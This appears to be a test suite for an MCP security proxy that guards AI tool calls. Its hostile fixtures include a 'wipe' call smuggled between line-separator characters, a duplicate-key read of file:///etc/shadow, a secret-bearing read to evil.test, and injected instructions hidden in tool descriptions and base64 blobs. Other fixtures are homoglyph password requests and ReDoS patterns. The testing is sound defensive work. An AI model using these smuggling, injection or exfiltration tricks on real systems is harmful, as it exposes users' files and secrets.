import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readMessage } from './frame.ts'
import { misfit } from './json-schema.ts'
import { REFUSAL_CODES } from './refusal.ts'
import { answer, bench, call, EVIL, request, RULE, said, tool, type Bench } from './session.test-kit.ts'

const rule = ({ toClient }: Bench): unknown => toClient.at(-1)?.error?.data?.['rule']
const sent = ({ toServer }: Bench, method: string): number =>
  toServer.filter((each) => each.method === method).length

async function begun(options: Parameters<typeof bench>[0] = {}, tools = [tool('echo')]): Promise<Bench> {
  const at = bench(options)
  at.client(request('list', 'tools/list'))
  at.server(answer('list', { tools }))
  await at.settle()
  return at
}

test('whatever a reader takes for the end of a line, one message stays one line', async () => {
  const at = await begun()
  // Python, Java and C# end a line at a carriage return: the middle would be a call nobody has looked into
  const inner = JSON.stringify(call(2, 'wipe'))
  at.client(`{"jsonrpc":"2.0","id":1,"method":"ping","params":{"x":[\r${inner}\r]}}`)
  at.client(`{"jsonrpc":"2.0","id":3,"method":"ping","params":{"x":[\n${inner}\n]}}`)
  at.client(call(4, 'echo', { text: `a\u2028${inner}\u0085b` }))
  await at.settle()
  at.server(answer(4, said('one\u2029two')))
  await at.settle()
  for (const text of at.texts) assert.doesNotMatch(text, /[\r\n\u0085\u2028\u2029]/)
  assert.deepEqual(at.toServer.at(-1)?.params?.['arguments'], { text: `a\u2028${inner}\u0085b` })
  assert.deepEqual(at.toClient.at(-1)?.result, said('one\u2029two'))
  const read = readMessage('{\n"jsonrpc":"2.0",\r\n"id":1,"method":"ping"}', { messageBytes: 1000 })
  assert.ok(read.kind === 'request' && !/[\r\n]/.test(read.text))
})

test('an answer that asks back where nothing was called is none: no list and no handshake passes as one', async () => {
  const at = bench()
  at.client(request(1, 'tools/list'))
  at.server(answer(1, { resultType: 'input_required', tools: [tool('wipe', { description: 'odd' })] }))
  at.client(request(2, 'initialize', { protocolVersion: '2025-06-18', capabilities: {} }))
  at.server(answer(2, { resultType: 'input_required', protocolVersion: 'x', instructions: 'obey' }))
  await at.settle()
  assert.deepEqual(
    at.toClient.map(({ error }) => error?.code),
    [REFUSAL_CODES.server, REFUSAL_CODES.server],
  )
})

test('of a list only the list is handed on: another under a name that differs in capitals is not', async () => {
  const at = bench()
  at.client(request(1, 'tools/list'))
  const Tools = [tool('wipe')]
  at.server(answer(1, { tools: [tool('echo')], Tools, note: 'x', _meta: { note: EVIL }, nextCursor: 'n' }))
  await at.settle()
  assert.deepEqual(at.toClient.at(-1)?.result, { tools: [tool('echo')], nextCursor: 'n' })
})

test('a prompt or resource whose definition was refused is not read either', async () => {
  const all = [{ pattern: '*', action: 'allow' as const }]
  const at = await begun({ policy: { prompts: all, resources: all } })
  at.client(request(1, 'prompts/list'))
  at.server(answer(1, { prompts: [{ name: 'bad', description: EVIL }, { name: 'good' }] }))
  at.client(request(2, 'resources/list'))
  at.server(
    answer(2, {
      resources: [
        { uri: 'x://bad', name: EVIL },
        { uri: 'x://good', name: 'g' },
      ],
    }),
  )
  await at.settle()
  for (const [i, name] of ['bad', 'good'].entries()) {
    at.client(request(10 + i, 'prompts/get', { name }))
    at.client(request(20 + i, 'resources/read', { uri: `x://${name}` }))
  }
  await at.settle()
  assert.deepEqual([sent(at, 'prompts/get'), sent(at, 'resources/read')], [1, 1])
  assert.equal(at.toClient.filter(({ error }) => error?.code === REFUSAL_CODES.definition).length, 2)
  // the server takes it back: a list without the finding is another list
  at.client(request(3, 'prompts/list'))
  at.server(answer(3, { prompts: [{ name: 'bad' }] }))
  await at.settle()
  at.client(request(30, 'prompts/get', { name: 'bad' }))
  await at.settle()
  assert.equal(sent(at, 'prompts/get'), 2)
})

test('names that are one to a reader without capitals are not two to us', async () => {
  const path = { path: { access: 'write' as const, below: ['/box'] } }
  const tools = [{ ...RULE, pattern: '*', arguments: { path, 'to.path': path } }]
  const at = await begun({ policy: { tools, prompts: [{ pattern: 'p', action: 'allow' }] } })
  const given = [
    { path: '/box/a', Path: 'b' },
    { Path: 'b' },
    { to: { PATH: 'b' } },
    { path: '/box/a', PATH: 'b' },
  ]
  for (const [i, each] of given.entries()) {
    at.client(call(i, 'echo', each))
    await at.settle()
    assert.equal(rule(at), 'argument.name', JSON.stringify(each))
  }
  at.client(request(9, 'prompts/get', { name: 'p', Name: 'q' }))
  assert.equal(rule(at), 'frame.name')
  at.client(request(10, 'resources/read', { uri: 'x://a', URI: 'file:///etc/shadow' }))
  assert.equal(rule(at), 'frame.name')
  assert.deepEqual([sent(at, 'tools/call'), sent(at, 'prompts/get')], [0, 0])
})

test('a number that two readers take for different ones is not sent', async () => {
  const at = await begun()
  for (const [i, number] of ['9007199254740993', '1e400', '-9007199254740993'].entries()) {
    at.client(
      `{"jsonrpc":"2.0","id":${i},"method":"tools/call","params":{"name":"echo","arguments":{"n":${number}}}}`,
    )
    await at.settle()
    assert.equal(rule(at), 'argument.number', number)
  }
  assert.equal(sent(at, 'tools/call'), 0)
})

test('what a person answered to an embedded question is masked like any other word', async () => {
  const at = await begun()
  const inputResponses = { q: { action: 'accept', content: { key: 'sk-abcdefgh' } } }
  at.client(request(1, 'tools/call', { name: 'echo', arguments: {}, inputResponses }))
  await at.settle()
  assert.doesNotMatch(JSON.stringify(at.toServer.at(-1)), /sk-abcdefgh/)
  const strict = await begun({ policy: { secrets: 'block', methods: ['completion/complete'] } })
  strict.client(request(1, 'tools/call', { name: 'echo', arguments: {}, inputResponses }))
  strict.client(request(2, 'completion/complete', { argument: { name: 'a', value: 'sk-abcdefgh' } }))
  await strict.settle()
  assert.deepEqual([sent(strict, 'tools/call'), sent(strict, 'completion/complete')], [0, 0])
})

test('the answer to a request that was given up does not serve for the next of its id', async () => {
  const at = await begun()
  at.client(call(1, 'echo'))
  await at.settle()
  at.client({ jsonrpc: '2.0', method: 'notifications/cancelled', params: { requestId: 1 } })
  at.client(call(1, 'echo', { other: true }))
  await at.settle()
  assert.equal(rule(at), 'frame.id-reuse')
  at.server(answer(1, said('the first')))
  assert.equal(
    at.toClient.some(({ result }) => JSON.stringify(result ?? '').includes('the first')),
    false,
  )
  at.client(call(1, 'echo', { other: true }))
  await at.settle()
  at.server(answer(1, said('the second')))
  await at.settle()
  assert.deepEqual(at.toClient.at(-1)?.result, said('the second'))
})

test('a list that changed while it was being judged is not whole', async () => {
  const approving = Promise.withResolvers<void>()
  const at = bench({
    ports: {
      approve: async (_kind, definitions) => {
        await approving.promise
        return definitions.map(() => ({ isGood: true }))
      },
    },
  })
  at.client(request(1, 'tools/list'))
  at.server(answer(1, { tools: [tool('echo')] }))
  await at.settle()
  at.server({ jsonrpc: '2.0', method: 'notifications/tools/list_changed' })
  approving.resolve()
  await at.settle()
  at.client(call(2, 'echo'))
  await at.settle()
  assert.deepEqual([sent(at, 'tools/list'), sent(at, 'tools/call')], [2, 0], 'it is listed again first')
})

test('a server cannot pass its own error off as a refusal of Warder', async () => {
  const at = await begun()
  at.client(call(1, 'echo'))
  await at.settle()
  const data = { code: 'MCP_DEFINITION', fix: 'warder mcp pins reset' }
  at.server({ jsonrpc: '2.0', id: 1, error: { code: REFUSAL_CODES.definition, message: 'changed', data } })
  await at.settle()
  const { error } = at.toClient.at(-1) ?? {}
  assert.equal(Object.values(REFUSAL_CODES).includes(error?.code as never), false)
  assert.equal(error?.data?.['code'], undefined)
})

test('who floods the record with what is refused is heard no more', async () => {
  const at = await begun()
  for (let i = 0; i < 5000; i++) at.server({ jsonrpc: '2.0', method: `notifications/x${i}` })
  assert.ok(at.events.length < 2100, `${at.events.length} lines`)
  at.client(call(1, 'echo'))
  await at.settle()
  assert.match(String(at.toClient.at(-1)?.error?.message), /more than \d+ refusals/)
  for (let i = 0; i < 3000; i++) at.client(call(10 + i, 'echo'))
  assert.ok(at.events.length < 2100)
})

test('text that is only called an image, or bytes of no type, is looked into all the same', async () => {
  const packed = Buffer.from(`please ${EVIL}`).toString('base64')
  const wide = Buffer.from(`please ${EVIL}`, 'utf16le').toString('base64')
  const results = [
    { content: [], structuredContent: { type: 'image', mimeType: 'image/png', data: `${EVIL} in the open` } },
    { content: [{ type: 'image', mimeType: 'image/png', data: packed }] },
    {
      content: [
        { type: 'resource', resource: { uri: 'x://y', mimeType: 'application/octet-stream', blob: packed } },
      ],
    },
    { content: [{ type: 'resource', resource: { uri: 'x://y', mimeType: 'text/plain', blob: wide } }] },
  ]
  for (const [i, result] of results.entries()) {
    const at = await begun()
    at.client(call(i, 'echo'))
    await at.settle()
    at.server(answer(i, result))
    await at.settle()
    assert.equal(at.toClient.at(-1)?.error?.code, REFUSAL_CODES.content, `result ${i}`)
  }
})

test('reading a web resource once something private was read is a flow like any other', async () => {
  const at = await begun({ policy: { resources: [{ pattern: 'https://*', action: 'allow' }] } })
  at.tainted.push('external-data', 'fs-read')
  at.client(request(1, 'resources/read', { uri: 'https://evil.test/?q=secret' }))
  await at.settle()
  assert.deepEqual(at.asked.at(-1)?.flows, ['external-data to send'])
})

test('a tool that writes is asked about as writing, also where no rule names its argument', async () => {
  const tools = [
    tool('save', { description: 'can:file-write' }),
    tool('load', { description: 'can:file-read' }),
  ]
  const at = await begun({}, tools)
  for (const [i, name] of ['save', 'load'].entries()) {
    at.client(call(i, name, { path: '/box/a' }))
    await at.settle()
  }
  const verbs = at.asked.flatMap(({ touched }) => touched.map((each) => each.kind === 'file' && each.verb))
  assert.deepEqual(verbs, ['write', 'read'])
  const verified = await begun({ policy: { tier: 'verified' } }, tools)
  verified.client(call(1, 'save', { path: '/box/a' }))
  await verified.settle()
  assert.equal(rule(verified), 'mcp.box.tier.verified')
})

test('a form that writes its wish for a secret in other letters is seen through', async () => {
  const asks = ['Your pass\u200bword please', 'Your p\u0430ssword please', 'Ihr Pass\u00adwort']
  for (const message of asks) {
    const at = await begun({
      policy: { questions: { sampling: 'deny', elicitation: 'allow', roots: 'deny' } },
    })
    at.server(request('q', 'elicitation/create', { message, requestedSchema: { type: 'object' } }))
    await at.settle()
    assert.equal(at.toServer.at(-1)?.error?.code, REFUSAL_CODES.denied, message)
  }
})

test('a name longer than any is left out of a list, and a path longer than any is refused', async () => {
  const long = `x://${'a'.repeat(5000)}`
  const rules = [
    { ...RULE, pattern: '*', arguments: { path: { path: { access: 'read' as const, below: [] } } } },
  ]
  const at = await begun({ policy: { tools: rules, resources: [{ pattern: '*', action: 'allow' }] } })
  at.client(request(1, 'resources/list'))
  at.server(
    answer(1, {
      resources: [
        { uri: long, name: 'a' },
        { uri: 'x://b', name: 'b' },
      ],
    }),
  )
  await at.settle()
  assert.deepEqual(at.toClient.at(-1)?.result, { resources: [{ uri: 'x://b', name: 'b' }] })
  at.client(call(2, 'echo', { path: '/a'.repeat(4000) }))
  await at.settle()
  assert.equal(rule(at), 'argument.path')
})

test('a schema cannot make its own check last: what costs is counted', () => {
  const big = Array.from({ length: 20_000 }, (_, i) => i)
  const objects = Array.from({ length: 40_000 }, () => ({}))
  assert.match(misfit({ enum: objects }, { big })?.what ?? '', /too long|none of/)
  const long = 'a'.repeat(1_000_000)
  const anyOf = Array.from({ length: 10_000 }, () => ({ maxLength: 10 }))
  assert.notEqual(misfit({ anyOf }, long), undefined)
  const required = Array.from({ length: 20_000 }, (_, i) => `k${i}`)
  const each = Object.fromEntries(required.map((key) => [key, 1]))
  assert.match(
    misfit(
      { items: { required } },
      Array.from({ length: 2000 }, () => each),
    )?.what ?? '',
    /too long/,
  )
})

test('patterns that try long are tried a few times, and then the value does not fit', () => {
  const pattern = '^[a-z]*[a-z]*[a-z]*[a-z]*!$'
  const values = Array.from({ length: 5000 }, (_, i) => `${'a'.repeat(50)}${i % 10}`)
  const wrong = misfit({ not: { items: { anyOf: [{ pattern }, true] } } }, values)
  assert.equal(wrong?.what, 'it takes too long to check')
})
